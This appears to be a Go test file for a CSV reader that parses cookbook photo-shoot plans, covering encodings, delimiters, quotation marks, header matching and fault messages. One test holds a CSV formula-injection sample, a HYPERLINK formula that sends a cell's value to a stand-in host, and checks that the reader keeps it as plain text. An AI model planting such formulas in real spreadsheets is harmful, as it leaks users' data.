package plansheet

import (
	"encoding/binary"
	"errors"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"coverplate/audit/plan"
)

// read reads text that must hold a plan.
func read(t *testing.T, text string) Sheet {
	t.Helper()
	s, err := Read(strings.NewReader(text), "plan.csv")
	if err != nil {
		t.Fatalf("Read(%q): %v", text, err)
	}
	return s
}

// utf16Of is the standard library's UTF-16, byte by byte: another way than
// the product's.
func utf16Of(order binary.AppendByteOrder, s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = order.AppendUint16(b, u)
	}
	return string(b)
}

func TestReadKnowsEncodingAndDelimiter(t *testing.T) {
	const plain = "recipe,title,pages,notes\r\nR01,Crème brûlée,24-25,“soft” – 3 €\r\n"
	semicolons := strings.ReplaceAll(plain, ",", ";")
	// Windows-1252 by the table of the WHATWG Encoding Standard: 80 €, 93 94
	// quotation marks, 96 en dash, E8 è, FB û, E9 é.
	const ansi = "recipe,title,pages,notes\r\nR01,Cr\xe8me br\xfbl\xe9e,24-25,\x93soft\x94 \x96 3 \x80\r\n"
	for _, c := range []struct {
		name, in, encoding string
		mark               bool
		delimiter          rune
	}{
		{"UTF-8 with commas", plain, "UTF-8", false, ','},
		{"UTF-8 with semicolons", semicolons, "UTF-8", false, ';'},
		{"UTF-8 with tabs", strings.ReplaceAll(plain, ",", "\t"), "UTF-8", false, '\t'},
		{"UTF-8 with bars", strings.ReplaceAll(plain, ",", "|"), "UTF-8", false, '|'},
		{"a byte order mark", "\xef\xbb\xbf" + plain, "UTF-8", true, ','},
		{"a line that names the delimiter", "sep=;\r\n" + semicolons, "UTF-8", false, ';'},
		{"a line that names an odd delimiter", "SEP=^\n" + strings.ReplaceAll(plain, ",", "^"), "UTF-8", false, '^'},
		{"a mark and such a line", "\xef\xbb\xbfsep=,\n" + plain, "UTF-8", true, ','},
		{"Windows-1252", ansi, "Windows-1252", false, ','},
		{"UTF-16, little end first", "\xff\xfe" + utf16Of(binary.LittleEndian, plain), "UTF-16LE", true, ','},
		{"UTF-16, big end first", "\xfe\xff" + utf16Of(binary.BigEndian, semicolons), "UTF-16BE", true, ';'},
		{"UTF-16 without a mark", utf16Of(binary.LittleEndian, plain), "UTF-16LE", false, ','},
		{"UTF-16 without a mark, big end first", utf16Of(binary.BigEndian, plain), "UTF-16BE", false, ','},
		{"line ends of LF", strings.ReplaceAll(plain, "\r\n", "\n"), "UTF-8", false, ','},
		{"line ends of CR alone", strings.ReplaceAll(plain, "\r\n", "\r"), "UTF-8", false, ','},
		{"no line end at the end", strings.TrimRight(plain, "\r\n"), "UTF-8", false, ','},
		{"a title above the header", "Skerry Table;;;\r\n\r\n" + semicolons, "UTF-8", false, ';'},
		{"semicolons with commas in the text", "recipe;title;pages;notes\n\"R01\";Crème brûlée;24-25;“soft” – 3 €\n", "UTF-8", false, ';'},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := read(t, c.in)
			if s.Format != "csv" || s.Encoding != c.encoding || s.BOM != c.mark || s.Delimiter != c.delimiter {
				t.Errorf("got %s %s mark %v delimiter %q, want csv %s %v %q", s.Format, s.Encoding, s.BOM, s.Delimiter, c.encoding, c.mark, c.delimiter)
			}
			want := []plan.Recipe{{Row: s.HeaderRow + 1, ID: "R01", Title: "Crème brûlée", Pages: plan.Pages{First: 24, Last: 25},
				Angle: plan.AnyAngle, Needs: plan.DefaultNeeds(), Notes: "“soft” – 3 €"}}
			if d := cmp.Diff(want, s.Recipes); d != "" {
				t.Errorf("−want +got:\n%s", d)
			}
			if len(s.Faults) > 0 {
				t.Errorf("faults %v, want none", s.Faults)
			}
		})
	}
}

func TestRowsAreCountedAsASpreadsheetShowsThem(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     []int
	}{
		{"one after the other", "recipe,title\na,A\nb,B\n", []int{2, 3}},
		{"blank rows count", "recipe,title\n\na,A\n,\n  \nb,B\n\n\n", []int{3, 6}},
		{"a line break in a cell doesn't count", "recipe,title,notes\na,A,\"one\ntwo\r\nthree\"\nb,B,\n", []int{2, 3}},
		{"a line break in the header doesn't count", "recipe,\"title\nof the dish\",title\na,x,A\n", []int{2}},
		{"CR alone", "recipe,title\r\ra,A\rb,B", []int{3, 4}},
		{"the line that names the delimiter doesn't count", "sep=,\nrecipe,title\na,A\n", []int{2}},
		{"rows above the header count", "Skerry Table\n\nrecipe,title\na,A\n", []int{4}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []int
			s := read(t, c.in)
			for _, r := range s.Recipes {
				got = append(got, r.Row)
			}
			if d := cmp.Diff(c.want, got); d != "" {
				t.Errorf("−want +got:\n%s\n%v", d, s.Faults)
			}
		})
	}
}

func TestQuotationMarks(t *testing.T) {
	for _, c := range []struct {
		name, in string
		titles   []string
		faults   int
	}{
		{"hold delimiters", "recipe,title,pages\na,\"Rye, barley\",1\n", []string{"Rye, barley"}, 0},
		{"are doubled inside", "recipe,title,pages\na,\"The \"\"best\"\" rye\",1\n", []string{`The "best" rye`}, 0},
		{"may stand inside plain text", "recipe,title,pages\na,5\" tart,1\n", []string{`5" tart`}, 0},
		{"may be forgotten to double", "recipe,title,pages\na,\"The \"best\" rye, warm\",1\n", []string{`The "best" rye, warm`}, 0},
		{"may begin plain text", "recipe,title,pages\na,\"Mother\" bread,1\nb,Rye,2\n", []string{`"Mother" bread`, "Rye"}, 0},
		{"may have spaces around", "recipe,title,pages\na, \"Rye, barley\" ,1\n", []string{"Rye, barley"}, 0},
		{"without a partner don't swallow the rest", "recipe,title,pages\na,\"Rye,1\nb,Plums,2\n", []string{`"Rye`, "Plums"}, 1},
		{"without a partner don't swallow the next quoted cell", "recipe,title,pages\na,\"Rye,1\nb,\"Plums, sweet\",2\nc,Trout,3\n",
			[]string{`"Rye`, "Plums, sweet", "Trout"}, 1},
		{"closed by chance rows later are named", "recipe,title,pages,size\na,\"Rye,1,full\nb,Plums,2,full\nc,Trout\",3,full\n",
			[]string{"Rye,1,full b,Plums,2,full c,Trout"}, 1},
		{"empty", "recipe,title,pages\na,\"\",1\n", []string{""}, 0},
		{"at the end of the file", "recipe,title\na,\"Rye\"", []string{"Rye"}, 0},
		{"a lone one at the end of the file", "recipe,title\na,\"", []string{`"`}, 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := read(t, c.in)
			var got []string
			for _, r := range s.Recipes {
				got = append(got, r.Title)
			}
			if d := cmp.Diff(c.titles, got); d != "" || len(s.Faults) != c.faults {
				t.Errorf("%d faults %v, want %d; −want +got:\n%s", len(s.Faults), s.Faults, c.faults, d)
			}
		})
	}
}

func TestManyStrayMarksAreReadInTime(t *testing.T) {
	s := read(t, "recipe,title\n"+strings.Repeat("a,\"\"\"x\n", 15000))
	if len(s.Recipes) != 15000 {
		t.Errorf("%d recipes, want 15000", len(s.Recipes))
	}
	if len(s.Faults) == 0 || s.Faults[0].Row != 0 || !strings.Contains(s.Faults[0].Says, "don't pair up") {
		t.Errorf("first fault %v, want one of the whole file", s.Faults[:min(1, len(s.Faults))])
	}
}

func TestHeadersAreForgiven(t *testing.T) {
	for _, c := range []struct {
		name, header string
		fields       string // one a column, "." the author's own
	}{
		{"as the template has them", "recipe,title,chapter,pages,size,orientation,angle,needs,props,surface,day,notes",
			"recipe title chapter pages size orientation angle needs props surface day notes"},
		{"in another order and case", "DAY,Title,ReCiPe", "day title recipe"},
		{"with signs", " Recipe ID: ,*Title*,Page(s),\"Size (mm, or half)\",\"Angle\nof camera\",Day [ISO]", "recipe title pages size . day"},
		{"synonyms", "ID,Recipe name,Section,pp.,Print size,Camera angle,Shots needed,Crockery,Backdrop,Shoot date,Remarks",
			"recipe title chapter pages size angle needs props surface day notes"},
		{"a number and a recipe without a title", "No.,Recipe,Page", "recipe title pages"},
		{"a sign for number", "#,Dish,pp", "recipe title pages"},
		{"slips", "recipe,tilte,chaptr,oreintaton,suface", "recipe title chapter orientation surface"},
		{"own columns", "recipe,title,cook,oven °C,pages2", "recipe title . . ."},
		{"a name beside a title is the author's own", "recipe,title,name,pages", "recipe title . pages"},
		{"a date beside a day is the author's own", "date,recipe,title,day", ". recipe title day"},
		{"the plain name counts where two name a field", "page,recipe,title,pages", ". recipe title pages"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := read(t, c.header+"\n")
			var got []string
			for _, h := range s.Headers {
				if h.Field == "" {
					h.Field = "."
				}
				got = append(got, h.Field)
			}
			if d := cmp.Diff(strings.Fields(c.fields), got); d != "" {
				t.Errorf("−want +got:\n%s", d)
			}
		})
	}
}

func TestHeadersThatAreMissingOrDoubleAreNamed(t *testing.T) {
	s := read(t, "page,chapter,pages\n24,Shore,25\n")
	want := []plan.Fault{
		{File: "plan.csv", Row: 1, Column: "recipe", Says: "there is no such column", Want: "add a column with the header recipe"},
		{File: "plan.csv", Row: 1, Column: "title", Says: "there is no such column", Want: "add a column with the header title"},
		{File: "plan.csv", Row: 1, Column: "page", Value: "page", Says: "names the pages a second time, in column A: column C is the one that counts",
			Want: "keep one of the two, or give this one another name"},
	}
	if d := cmp.Diff(want, s.Check(plan.Book{})); d != "" {
		t.Errorf("−want +got:\n%s", d)
	}
	if d := cmp.Diff([]plan.Field{{Name: "page", Value: "24"}}, s.Recipes[0].Extra); d != "" || s.Recipes[0].Pages.First != 25 {
		t.Errorf("pages %v; what the double held, −want +got:\n%s", s.Recipes[0].Pages, d)
	}
	if d := cmp.Diff([]string{"recipe", "title", "size", "orientation", "angle", "needs", "props", "surface", "day", "lettering", "allergens", "notes"}, s.Missing); d != "" {
		t.Errorf("missing, −want +got:\n%s", d)
	}
}

func TestEveryFaultIsNamedAtOnce(t *testing.T) {
	const in = `Recipe ID,Title,Page(s),Size,Angle,Needs,Shoot day,cook
R01,Rye,25-26,thrid,overhed,hero; posters; otpions 3,3/4/2026,Una
R02,,24-25,full,flat lay,,2026-04-01,Una
R01,Plums,24,120x80 mm,,,4 March 2026,"Una",spilt
R04,#REF!,30,"300x120 mm",3/4,,46085,Una
`
	s := read(t, in)
	book := plan.Book{TrimWidth: 189, TrimHeight: 246, Bleed: 3, FirstDay: plan.Day{Year: 2026, Month: 3, Day: 2}, LastDay: plan.Day{Year: 2026, Month: 3, Day: 11}}
	var got []string
	for _, f := range s.Check(book) {
		got = append(got, f.String())
	}
	want := []string{
		`plan.csv row 2, Page(s) "25-26": is no spread: pages 25 and 26 are two sides of one leaf; write 24-25 or 26-27`,
		`plan.csv row 2, Size "thrid": is not a known size; write one of full, double, half, quarter, or width x height as in 120x80 mm`,
		`plan.csv row 2, Angle "overhed": is not a known angle; did you mean overhead? Known: overhead, high, three-quarter, low, any`,
		`plan.csv row 2, Needs "posters": is not a known need; write one of hero, overhead, half, palette, portrait, landscape, detail, process, opener, options N`,
		`plan.csv row 2, Needs "otpions 3": is not a known need; did you mean options? Known: hero, overhead, half, palette, portrait, landscape, detail, process, opener, options N`,
		`plan.csv row 2, Shoot day "3/4/2026": can be two days; write 2026-04-03 or 2026-03-04`,
		`plan.csv row 3, Title: the recipe has no title; write the dish as the book names it`,
		`plan.csv row 3, Size "full": a full page takes one page, and pages names two, 24-25; write double as size, or 24 or 25 as pages`,
		`plan.csv row 3, Shoot day "2026-04-01": is outside the shoot; write a day from 2026-03-02 to 2026-03-11`,
		`plan.csv row 4, Recipe ID "R01": is the id of row 2 already; give each recipe an id of its own`,
		`plan.csv row 4, Page(s) "24": page 24 is used already by R02 in row 3, and the sizes don't fit on it together; give it another page or a smaller size`,
		`plan.csv row 4, column I "spilt": stands under no header; give the column a header, or put text that holds ',' in quotation marks`,
		`plan.csv row 5, Title "#REF!": is the error of a formula; mend the formula, or write the value`,
		`plan.csv row 5, Size "300x120 mm": is larger than a page of this book, 189 x 246 mm; write at most 189x246 mm, or 30-31 as pages`,
		`plan.csv row 5, Shoot day "46085": is the number that a spreadsheet keeps a day as; write 2026-03-04, if that is the day`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("−want +got:\n%s", d)
	}
	// What is right in a faulty row is used.
	r := s.Recipes[0]
	if r.ID != "R01" || r.Title != "Rye" || !r.Pages.IsZero() || len(r.Needs) != 4 || !r.Day.IsZero() {
		t.Errorf("the first row is %+v", r)
	}
	taken := []Taken{
		{3, "Angle", "flat lay", "overhead"},
		{4, "Shoot day", "4 March 2026", "2026-03-04"},
		{5, "Angle", "3/4", "three-quarter"},
	}
	if d := cmp.Diff(taken, s.Taken); d != "" {
		t.Errorf("taken, −want +got:\n%s", d)
	}
}

func TestRaggedRows(t *testing.T) {
	s := read(t, "recipe,title,pages,cook\nR01\nR02,Rye,24,Una,,,\n")
	if len(s.Faults) != 0 {
		t.Errorf("faults %v, want none: a short row is no fault of reading, and empty cells at the end are nothing", s.Faults)
	}
	want := []plan.Recipe{
		{Row: 2, ID: "R01", Angle: plan.AnyAngle, Needs: plan.DefaultNeeds(), Extra: []plan.Field{{Name: "cook"}}},
		{Row: 3, ID: "R02", Title: "Rye", Pages: plan.Pages{First: 24, Last: 24}, Angle: plan.AnyAngle, Needs: plan.DefaultNeeds(), Extra: []plan.Field{{Name: "cook", Value: "Una"}}},
	}
	if d := cmp.Diff(want, s.Recipes); d != "" {
		t.Errorf("−want +got:\n%s", d)
	}
}

func TestFormulasInCSVAreText(t *testing.T) {
	const evil = `=HYPERLINK("http://skerry.example/?"&A1)`
	s := read(t, "recipe,title,cook\nR01,\""+strings.ReplaceAll(evil, `"`, `""`)+"\",@SUM(A1)\n")
	if r := s.Recipes[0]; r.Title != evil || r.Extra[0].Value != "@SUM(A1)" {
		t.Errorf("got %+v, want both as they stand", r)
	}
}

func TestDamagedCharactersAreNamed(t *testing.T) {
	// One byte of é is missing from a text that is otherwise UTF-8.
	s := read(t, "recipe,title\nR01,Crème brûl\xc3e flambée\n")
	if s.Encoding != "UTF-8" || len(s.Faults) != 1 || s.Faults[0].Row != 2 || s.Faults[0].Column != "title" || !strings.Contains(s.Faults[0].Says, "damaged") {
		t.Errorf("%s, faults %v, want one for title in row 2", s.Encoding, s.Faults)
	}
	s = read(t, "\xff\xfe"+utf16Of(binary.LittleEndian, "recipe,title\nR01,Rye\n")+"x")
	if len(s.Faults) != 1 || !strings.Contains(s.Faults[0].Says, "damaged") {
		t.Errorf("UTF-16 of an odd length: faults %v, want one", s.Faults)
	}
}

func TestFilesThatHoldNoPlanGiveOneClearError(t *testing.T) {
	for _, c := range []struct {
		name, in    string
		unsupported bool
		says        string
	}{
		{"an empty file", "", false, "empty"},
		{"white space", " \r\n\t ", false, "empty"},
		{"no header", "Rye,24\nPlums,25\n", false, "none of the first 30 rows"},
		{"a header too far down", strings.Repeat("x,y\n", 30) + "recipe,title\n", false, "none of the first 30 rows"},
		{"a photograph", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x02\x00\x00\x48\x00\x48\x00\x00", false, "neither text nor a workbook"},
		{"an old workbook", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 512), true, "old Excel workbook"},
		{"a PDF", "%PDF-1.7\n", true, "PDF"},
		{"a web page that calls itself a workbook", "\xef\xbb\xbf\n<html><table>", true, "web page"},
		{"a broken workbook", "PK\x03\x04 and nothing more", false, "can't be unpacked"},
		{"a mark and nothing else", "\xff\xfe", false, "none of the first"},
		{"too many rows", "recipe,title\n" + strings.Repeat("a,b\n", mostRows), false, "more than 20000 rows"},
		{"too many bytes", "recipe,title\n" + strings.Repeat(" ", mostBytes), false, "more than 8 MB"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := Read(strings.NewReader(c.in), "plan.csv")
			var format *FormatError
			var unsupported *UnsupportedError
			if errors.As(err, &unsupported) != c.unsupported || errors.As(err, &format) == c.unsupported {
				t.Fatalf("error %T %v, want unsupported %v", err, err, c.unsupported)
			}
			if !strings.HasPrefix(err.Error(), "plan.csv: ") || !strings.Contains(err.Error(), c.says) {
				t.Errorf("error %q, want the file and %q", err, c.says)
			}
		})
	}
	broken := errors.New("the stick was pulled")
	if _, err := Read(iotest.ErrReader(broken), "plan.csv"); !errors.Is(err, broken) {
		t.Errorf("error %v, want it to wrap the reader's", err)
	}
}

func TestVeryWideRowsAreCut(t *testing.T) {
	s := read(t, "recipe,title\nR01,Rye"+strings.Repeat(",x", 2*mostColumns)+"\n")
	if len(s.Headers) != mostColumns || len(s.Recipes) != 1 {
		t.Fatalf("%d columns, %d recipes", len(s.Headers), len(s.Recipes))
	}
	if last := s.Faults[len(s.Faults)-1]; !strings.Contains(s.Faults[0].Says, "more than 500 columns") {
		t.Errorf("faults from %v to %v, want the row's width named", s.Faults[0], last)
	}
}
